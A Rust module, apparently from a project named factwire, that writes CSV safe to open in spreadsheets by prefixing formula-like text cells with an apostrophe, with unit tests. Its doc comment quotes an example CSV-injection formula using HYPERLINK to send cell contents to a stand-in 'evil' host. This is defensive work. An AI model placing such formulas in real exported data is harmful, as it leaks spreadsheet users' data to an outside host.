//! CSV that is safe to open in a spreadsheet.
//!
//! Titles, snippets and sentences come from feeds anyone can write. A cell that
//! starts with `=`, `+`, `-`, `@`, a tab or a carriage return is read by Excel,
//! LibreOffice and Google Sheets as a formula (`=HYPERLINK("http://evil/?"&A1,"…")`
//! sends the neighbouring cells away when clicked). Following OWASP's advice on CSV
//! injection, such a *text* cell gets a leading single quote (spreadsheets show it as
//! text and hide the quote) and is always quoted. Leading spaces before one of those
//! characters count too, since some spreadsheets drop them. A cell holding `;` is
//! quoted as well, so a spreadsheet that splits on semicolons (many European locales)
//! cannot start a new cell inside it.
//!
//! *Number* cells are written from numbers (ids, offsets, values, scores, counts) and
//! are never changed: `-12.5` stays a number a spreadsheet can sum. Only text is
//! neutralised, so a fact whose text is `-5%` comes out as `'-5%`.
//!
//! The rest is RFC 4180: comma separated, `\n` line ends, a cell with a comma, quote,
//! CR or LF quoted, quotes inside doubled.

/// One CSV cell: text from anywhere, or a number we formatted ourselves.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Cell {
    /// Text; neutralised when a spreadsheet would run it.
    Text(String),
    /// A number formatted by factwire (digits, `-`, `.`, `e`); written as is.
    Number(String),
}

impl Cell {
    /// A text cell.
    pub fn text(s: impl Into<String>) -> Cell {
        Cell::Text(s.into())
    }

    /// A number cell from anything displayable as a number.
    pub fn number(n: impl std::fmt::Display) -> Cell {
        Cell::Number(n.to_string())
    }
}

/// Builds a CSV document row by row.
#[derive(Debug, Default)]
pub struct CsvWriter {
    out: String,
}

impl CsvWriter {
    /// A document whose first row is `headers`.
    pub fn with_header(headers: &[&str]) -> CsvWriter {
        let mut w = CsvWriter::default();
        w.row(headers.iter().map(|h| Cell::text(*h)));
        w
    }

    /// Appends one row.
    pub fn row(&mut self, cells: impl IntoIterator<Item = Cell>) {
        for (i, cell) in cells.into_iter().enumerate() {
            if i > 0 {
                self.out.push(',');
            }
            match cell {
                Cell::Number(n) => push_field(&mut self.out, &n, false),
                Cell::Text(t) if is_formula_like(&t) => {
                    push_field(&mut self.out, &format!("'{t}"), true);
                }
                Cell::Text(t) => push_field(&mut self.out, &t, t.contains(';')),
            }
        }
        self.out.push('\n');
    }

    /// The document.
    pub fn finish(self) -> String {
        self.out
    }
}

/// Whether a spreadsheet would read `s` as a formula (or a DDE call): its first
/// character after any spaces is one of OWASP's trigger characters.
pub fn is_formula_like(s: &str) -> bool {
    let first = s.trim_start_matches(' ').chars().next();
    matches!(
        first,
        Some('=' | '+' | '-' | '@' | '\t' | '\r' | '＝' | '＋' | '－' | '＠')
    )
}

fn push_field(out: &mut String, s: &str, force_quotes: bool) {
    let needs = force_quotes || s.contains([',', '"', '\r', '\n']);
    if !needs {
        out.push_str(s);
        return;
    }
    out.push('"');
    out.push_str(&s.replace('"', "\"\""));
    out.push('"');
}

#[cfg(test)]
mod tests {
    use super::*;

    fn one(cell: Cell) -> String {
        let mut w = CsvWriter::default();
        w.row([cell]);
        w.finish().trim_end_matches('\n').to_string()
    }

    #[test]
    fn formula_text_is_quoted_with_a_leading_apostrophe() {
        for (input, want) in [
            (
                "=HYPERLINK(\"http://x\",\"y\")",
                "\"'=HYPERLINK(\"\"http://x\"\",\"\"y\"\")\"",
            ),
            ("+1", "\"'+1\""),
            ("-2+3", "\"'-2+3\""),
            ("@SUM(A1)", "\"'@SUM(A1)\""),
            ("\tx", "\"'\tx\""),
            ("\rx", "\"'\rx\""),
            ("  =1", "\"'  =1\""),
            ("＝1", "\"'＝1\""),
        ] {
            assert_eq!(one(Cell::text(input)), want, "{input:?}");
        }
    }

    #[test]
    fn ordinary_text_and_numbers_are_left_alone() {
        assert_eq!(one(Cell::text("AWS revenue")), "AWS revenue");
        assert_eq!(one(Cell::text("a, b")), "\"a, b\"");
        assert_eq!(one(Cell::text("a;=1")), "\"a;=1\"");
        assert_eq!(one(Cell::text("x = 1")), "x = 1");
        assert_eq!(one(Cell::number(-12.5)), "-12.5");
        assert_eq!(one(Cell::number(3)), "3");
    }

    #[test]
    fn rows_end_with_newlines_and_keep_their_width() {
        let mut w = CsvWriter::with_header(&["a", "b"]);
        w.row([Cell::text("=1"), Cell::number(-1)]);
        assert_eq!(w.finish(), "a,b\n\"'=1\",-1\n");
    }
}
